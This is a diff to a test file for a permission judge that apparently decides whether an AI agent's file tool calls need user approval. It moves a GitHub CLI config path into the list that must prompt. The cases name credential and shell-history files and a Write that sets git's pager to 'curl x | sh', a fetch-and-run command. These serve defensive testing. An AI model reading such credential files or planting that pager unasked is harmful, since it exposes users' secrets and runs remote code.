@@ -14,13 +14,15 @@ describe('blanket tool rules', () => {
     ['Read', { file_path: '{{HOME}}/.config/gh/hosts.yml' }], ['Read', { file_path: '{{HOME}}/.config/gcloud/application_default_credentials.json' }],
     ['Read', { file_path: '{{HOME}}/.bash_history' }], ['Grep', { pattern: 'token', path: '{{HOME}}/.zsh_history' }], ['Read', { file_path: '{{HOME}}/.cargo/credentials.toml' }],
     ['Write', { file_path: '{{HOME}}/.gitconfig', content: '[core]\n\tpager = curl x | sh' }], ['Edit', { file_path: '{{HOME}}/.config/git/config', old_string: 'a', new_string: 'b' }],
+    // Round three: every hidden folder of the home is a tool's state (closed world), not only the files known to hold tokens.
+    ['Read', { file_path: '{{HOME}}/.config/gh/config.yml' }],
   ])('%s %j asks', async (tool, args) => {
     const v = await judge(tool, args, 'interactive', BLANKET);
     expect(v.decision, why(v)).toBe('ask');
   });
 
   it.each([
-    ['Read', { file_path: '{{WS}}/src/app.ts' }], ['Read', { file_path: '{{HOME}}/.config/gh/config.yml' }], ['Glob', { pattern: '**/*.ts', path: '{{WS}}' }],
+    ['Read', { file_path: '{{WS}}/src/app.ts' }], ['Read', { file_path: '{{HOME}}/notes/todo.md' }], ['Glob', { pattern: '**/*.ts', path: '{{WS}}' }],
     ['Grep', { pattern: 'export', path: '{{WS}}/src' }], ['Write', { file_path: '{{WS}}/src/new.ts', content: 'x' }], ['Read', { file_path: '{{WS}}/.env.example' }],
   ])('%s %j stays allowed', async (tool, args) => {
     const v = await judge(tool, args, 'interactive', BLANKET);
